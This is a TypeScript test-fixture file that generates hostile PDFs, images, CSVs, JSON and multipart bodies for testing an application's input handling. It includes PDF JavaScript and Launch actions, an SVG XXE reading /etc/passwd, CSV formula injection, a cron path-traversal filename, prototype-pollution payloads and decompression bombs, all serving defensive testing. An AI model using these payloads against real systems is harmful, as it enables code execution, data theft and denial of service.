import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { assemblePdf, packedPdf, pdfStream, plainPdf, restrictedPdf } from '#test/pdf.ts';

export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** It must be refused; otherwise it may be accepted, since it is odd but harmless. */
  mustBeRefused?: boolean;
}

const MEGABYTE = 1024 * 1024;
const times = (text: string, count: number): Buffer => Buffer.from(text.repeat(count));

/** Actions and content of a PDF that a reader would execute, open or send. */
const ACTIVE: Record<string, string> = {
  JavaScript: '/S /JavaScript /JS (app.alert\\(1\\))',
  'escaped JavaScript': '/S /J#61vaScript /JS (app.alert\\(1\\))',
  Launch: '/S /Launch /F (cmd.exe)',
  SubmitForm: '/S /SubmitForm /F (https://elsewhere.example)',
  ImportData: '/S /ImportData /F (a.fdf)',
  GoToR: '/S /GoToR /F (\\\\\\\\elsewhere.example\\\\share\\\\a.pdf) /D [0 /Fit]',
  GoToE: '/S /GoToE /T << /R /C /N (a) >>',
  RichMedia: '/Type /Annot /Subtype /RichMedia /RichMediaContent << >>',
  Rendition: '/S /Rendition /OP 0 /JS (app.alert\\(1\\))',
};

const head = '%PDF-1.7\n';
const pages = (kids: string, count = '1') => `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`;
const catalog = '<< /Type /Catalog /Pages 2 0 R >>';
const page = (entries = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R ${entries} >>`;
const content = (text: string) => pdfStream('', Buffer.from(text));
/** A PDF of these objects, from the catalog on. */
const pdf = (...objects: (Buffer | string)[]): Buffer => assemblePdf(objects);
const bomb = (megabytes: number): Buffer => deflateSync(Buffer.alloc(megabytes * MEGABYTE, ' '));
const cut = (bytes: Buffer, at: number): Buffer => bytes.subarray(0, Math.floor(bytes.length * at));
const replaced = (bytes: Buffer, from: string, to: string): Buffer =>
  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');

/** PDFs that readers stumble over: active, damaged, endless, or larger unpacked than packed. */
export function hostilePdfs(): HostileFile[] {
  const plain = plainPdf();
  const active: HostileFile[] = Object.entries(ACTIVE).flatMap(([name, action]) => [
    { name: `${name} when it opens`, bytes: plainPdf(`/OpenAction << ${action} >>`), mustBeRefused: true },
    {
      name: `${name} in an object stream`,
      bytes: packedPdf(action, { catalog: '/OpenAction 7 0 R' }),
      mustBeRefused: true,
    },
  ]);
  const damaged: Record<string, Buffer> = {
    'a header alone': Buffer.from(head),
    'a header and zeros': Buffer.concat([Buffer.from(head), Buffer.alloc(MEGABYTE)]),
    'cut after a tenth': cut(plain, 0.1),
    'cut in the middle': cut(plain, 0.5),
    'cut before the trailer': cut(plain, 0.95),
    'not a PDF': Buffer.from('<html><script>alert(1)</script></html>'),
    'an unknown encryption': replaced(plain, '/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /X /V 99 >>'),
    'restricted, with a hidden action': restrictedPdf('/S /JavaScript /JS (1)'),
  };
  const odd: Record<string, Buffer> = {
    'a wrong startxref': replaced(plain, 'startxref\n', 'startxref\n9'),
    'no cross-reference table': Buffer.from(plain.toString('latin1').replace(/xref.*$/s, ''), 'latin1'),
    'a table that is its own predecessor': replaced(plain, '/Root 1 0 R', '/Root 1 0 R /Prev 9'),
    'a page tree that contains itself': pdf(catalog, pages('2 0 R'), page(), content('')),
    'a page that is its own parent': pdf(catalog, pages('3 0 R'), '<< /Type /Page /Parent 3 0 R >>'),
    'a negative number of pages': pdf(catalog, pages('3 0 R', '-1'), page(), content('')),
    'a huge number of pages': pdf(catalog, pages('3 0 R', '2147483647'), page(), content('')),
    'one page ten thousand times': pdf(catalog, pages('3 0 R '.repeat(10_000), '10000'), page(), content('')),
    'a page tree 3,000 levels deep': deepTree(3000),
    'arrays in arrays': plainPdf(`/X ${'['.repeat(20_000)}${']'.repeat(20_000)}`),
    'dictionaries in dictionaries': plainPdf(`/X ${'<< /X '.repeat(10_000)}1${' >>'.repeat(10_000)}`),
    'a string that does not end': plainPdf(`/X (${'('.repeat(5000)}`),
    'a megabyte of comments': Buffer.concat([Buffer.from(head), times('% comment\n', 100_000), plain]),
    'a megabyte of slashes': plainPdf('', undefined, [`<< ${'/'.repeat(MEGABYTE)} >>`]),
    'a header after a kilobyte': Buffer.concat([Buffer.alloc(1000, '\n'), plain]),
    'a page of 10^9 points': pdf(
      catalog,
      pages('3 0 R'),
      page('/MediaBox [0 0 1000000000 1000000000]'),
      content(''),
    ),
    'a page without an area': pdf(catalog, pages('3 0 R'), page('/MediaBox [0 0 0 0]'), content('')),
    'content of 100 MB': plainPdf('', undefined, [pdfStream('/Filter /FlateDecode', bomb(100))]),
    'content packed twice': plainPdf('', undefined, [
      pdfStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(bomb(200))),
    ]),
    'an object stream of 100 MB': packedPdf('/X 1', { pack: () => bomb(100) }),
    'an object stream with a wrong checksum': packedPdf('/X 1', { corrupt: true }),
    'an object stream that is cut': packedPdf('/X 1', { cut: 5 }),
    'an object stream of a billion objects': packedPdf('/X 1', {
      type: '/Type /ObjStm /N 1000000000 /First 4',
    }),
    'an object stream that extends itself': packedPdf('/X 1', { before: '/Extends 5 0 R' }),
    'an unknown filter': packedPdf('/X 1', { filter: '/Mystery', pack: (bytes) => bytes }),
    'two hundred filters': packedPdf('/X 1', {
      filter: `[${'/ASCIIHexDecode '.repeat(200)}]`,
      pack: (bytes) => bytes,
    }),
    'a stream of a negative length': replaced(plain, '/Length 5', '/Length -5'),
    'a stream whose length is itself': replaced(plain, '/Length 5', '/Length 4 0 R'),
    'a picture of 10^9 pixels': plainPdf('', Buffer.from('/I Do'), [
      pdfStream(
        '/Type /XObject /Subtype /Image /Width 31623 /Height 31623 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
        Buffer.from('x'),
      ),
    ]),
    'a form that draws itself': pdf(
      catalog,
      pages('3 0 R'),
      page('/Resources << /XObject << /F 5 0 R >> >>'),
      content('/F Do'),
      pdfStream(
        '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 5 0 R >> >>',
        Buffer.from('/F Do'),
      ),
    ),
    'five thousand saved states': pdf(catalog, pages('3 0 R'), page(), content('q '.repeat(5000))),
    'a font without a program': pdf(
      catalog,
      pages('3 0 R'),
      page(
        '/Resources << /Font << /F << /Type /Font /Subtype /Type0 /Encoding /Identity-H /DescendantFonts [5 0 R] >> >> >>',
      ),
      content('BT /F 9 Tf <0041> Tj ET'),
      '<< /Type /Font /Subtype /CIDFontType2 /FontDescriptor 5 0 R >>',
    ),
    'an archive at the same time': Buffer.concat([plain, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
    'a page of HTML at the same time': Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), plain]),
    'ten thousand empty objects': plainPdf('', undefined, Array(10_000).fill('null')),
  };
  return [
    ...active,
    ...Object.entries(damaged).map(([name, bytes]) => ({ name, bytes, mustBeRefused: true })),
    ...Object.entries(odd).map(([name, bytes]) => ({ name, bytes })),
  ];
}

function deepTree(levels: number): Buffer {
  const nodes = Array.from(
    { length: levels },
    (_, n) => `<< /Type /Pages /Parent ${n + 1} 0 R /Kids [${n + 3} 0 R] /Count 1 >>`,
  );
  return pdf(catalog, ...nodes, `<< /Type /Page /Parent ${levels + 1} 0 R /MediaBox [0 0 9 9] >>`);
}

/** Pictures that decoders stumble over. */
export async function hostilePictures(): Promise<HostileFile[]> {
  const create = (width: number, height: number) =>
    sharp({ create: { width, height, channels: 3, background: '#446688' }, limitInputPixels: false });
  const png = await create(60, 40).png().toBuffer();
  const jpeg = await create(60, 40).jpeg().toBuffer();
  const withSize = (width: number, height: number) => {
    const bytes = Buffer.from(png);
    bytes.writeUInt32BE(width, 16);
    bytes.writeUInt32BE(height, 20);
    return bytes;
  };
  const flipped = Buffer.from(png);
  flipped.writeUInt8(flipped.readUInt8(45) ^ 0xff, 45);
  const refused: Record<string, Buffer> = {
    'a PNG that is cut': cut(png, 0.5),
    'a signature alone': png.subarray(0, 8),
    'a JPEG header alone': jpeg.subarray(0, 4),
    'a signature and zeros': Buffer.concat([png.subarray(0, 8), Buffer.alloc(MEGABYTE)]),
    'a PNG that claims 4 billion pixels': withSize(65_535, 65_535),
    'a PNG without pixels': withSize(0, 0),
    '41 megapixels': await create(8200, 5000).png().toBuffer(),
    'an SVG with a script': Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ),
    'an SVG that reads a file': Buffer.from(
      '<?xml version="1.0"?><!DOCTYPE s [<!ENTITY e SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
    ),
    'a GIF that is a script': Buffer.from('GIF89a=1;alert(1)'),
    'a page of HTML': Buffer.from('<html><script>alert(1)</script></html>'),
    'more than 8 MB': Buffer.concat([png, Buffer.alloc(9 * MEGABYTE)]),
  };
  const odd: Record<string, Buffer> = {
    'a PNG with a wrong checksum': flipped,
    '39 megapixels': await create(7800, 5000).png().toBuffer(),
    'one pixel wide, 16,000 high': await create(1, 16_000).png().toBuffer(),
    'a text chunk of 50 MB': withChunk(png, 'zTXt', Buffer.concat([Buffer.from('Comment\0\0'), bomb(50)])),
    'a colour profile of 50 MB': withChunk(png, 'iCCP', Buffer.concat([Buffer.from('x\0\0'), bomb(50)])),
    'a JPEG and HTML after it': Buffer.concat([jpeg, Buffer.from('<script>alert(1)</script>')]),
    'a JPEG in CMYK': await create(60, 40).toColourspace('cmyk').jpeg().toBuffer(),
    'sixteen bits for each colour': await create(60, 40).toColourspace('rgb16').png().toBuffer(),
  };
  return [
    ...Object.entries(refused).map(([name, bytes]) => ({ name, bytes, mustBeRefused: true })),
    ...Object.entries(odd).map(([name, bytes]) => ({ name, bytes })),
  ];
}

/** A PNG with a chunk after its header; the checksum is left wrong on purpose, since decoders differ in minding it. */
function withChunk(png: Buffer, type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([
    png.subarray(0, 33),
    length,
    Buffer.from(type),
    data,
    Buffer.alloc(4),
    png.subarray(33),
  ]);
}

/** CSV files for the import of products. */
export function hostileCsvs(): HostileFile[] {
  const files: Record<string, Buffer> = {
    empty: Buffer.alloc(0),
    'a quote that does not end': Buffer.concat([Buffer.from('name,sku\n"'), times('a,b\n', 500_000)]),
    'two million commas': times(',', 2_000_000),
    'two hundred thousand columns': Buffer.from(
      `${Array.from({ length: 100_000 }, (_, n) => `c${n}`).join()}\nx\n`,
    ),
    'a hundred thousand empty rows': Buffer.from(`name,sku\n${'\n'.repeat(100_000)}`),
    'fifty thousand rows': Buffer.from(`name,sku,price\n${'A,B,1\n'.repeat(50_000)}`),
    'a cell of 5 MB': Buffer.concat([Buffer.from('name,sku\n'), times('x', 5 * MEGABYTE)]),
    'U+0000 everywhere': Buffer.alloc(MEGABYTE),
    'UTF-16': Buffer.from('\ufeffname,sku\nA,B\n', 'utf16le'),
    'bytes that are no text': Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 37) % 256)),
    'the same column twice': Buffer.from('name,name,sku,sku\nA,B,C,D\n'),
    formulas: Buffer.from('name,sku\n"=cmd|\'/c calc\'!A1",=1+1\n'),
    'a column named __proto__': Buffer.from('name,__proto__,constructor\nA,B,C\n'),
    'carriage returns': times('name,sku\r', 50_000),
    'more than 10 MB': Buffer.alloc(11 * MEGABYTE, 'a'),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes }));
}

/** JSON bodies for calls without an account. */
export function hostileJson(): HostileFile[] {
  const kilobytes250 = 250_000;
  const files: Record<string, Buffer> = {
    'nested arrays': times('[', kilobytes250),
    'nested arrays that end': Buffer.from(`${'['.repeat(100_000)}${']'.repeat(100_000)}`),
    'nested objects': Buffer.from(`${'{"a":'.repeat(40_000)}1${'}'.repeat(40_000)}`),
    'a number of 250,000 digits': Buffer.from(`{"email":${'9'.repeat(kilobytes250)}}`),
    'a hundred thousand numbers': Buffer.from(`{"products":[${'1,'.repeat(100_000)}1]}`),
    'thirty thousand names': Buffer.from(`{${Array.from({ length: 15_000 }, (_, n) => `"n${n}":1`).join()}}`),
    'the same name': Buffer.from(`{${'"email":1,'.repeat(20_000)}"email":2}`),
    __proto__: Buffer.from('{"__proto__":{"role":"admin"},"constructor":{"prototype":{"role":"admin"}}}'),
    'bytes that are no UTF-8': Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
    'lone surrogates': Buffer.from('{"email":"\\ud800@example.test","password":"\\udfff"}'),
    'U+0000': Buffer.from('{"email":"a\\u0000@example.test","password":"\\u0000"}'),
    'more than 256 kB': Buffer.alloc(300_000, '1'),
    'a megabyte of spaces': Buffer.alloc(MEGABYTE, ' '),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes }));
}

/** Bodies of a multipart form with the boundary `x`. */
export function hostileForms(): HostileFile[] {
  const field = (name: string, value: string, more = '') =>
    `--x\r\ncontent-disposition: form-data; name="${name}"${more}\r\n\r\n${value}\r\n`;
  const files: Record<string, Buffer> = {
    empty: Buffer.alloc(0),
    'no end': Buffer.from(field('name', 'A')),
    'an end alone': Buffer.from('--x--\r\n'),
    'a thousand fields': Buffer.from(`${field('name', 'A').repeat(1000)}--x--\r\n`),
    'twenty files': Buffer.from(`${field('featuredImage', 'A', '; filename="a.png"').repeat(20)}--x--\r\n`),
    'a name of a megabyte': Buffer.from(`${field('n'.repeat(MEGABYTE), 'A')}--x--\r\n`),
    'no disposition': Buffer.from('--x\r\n\r\nA\r\n--x--\r\n'),
    'a megabyte of part headers': Buffer.from(`--x\r\n${'a: b\r\n'.repeat(170_000)}\r\nA\r\n--x--\r\n`),
    'a file name with a path': Buffer.from(
      `${field('featuredImage', 'A', '; filename="../../../etc/cron.d/a"')}--x--\r\n`,
    ),
    'a field of 5 MB': Buffer.from(`${field('name', 'A'.repeat(5 * MEGABYTE))}--x--\r\n`),
    'a name with __proto__': Buffer.from(`${field('__proto__', 'A')}${field('constructor', 'A')}--x--\r\n`),
    'boundaries only': times('--x\r\n', 200_000),
    'a form in a form': Buffer.from(
      `--x\r\ncontent-type: multipart/mixed; boundary=y\r\ncontent-disposition: form-data; name="name"\r\n\r\n--y\r\n\r\nA\r\n--y--\r\n--x--\r\n`,
    ),
    'line feeds alone': Buffer.from(`${field('name', 'A')}--x--\r\n`.replaceAll('\r', '')),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes }));
}
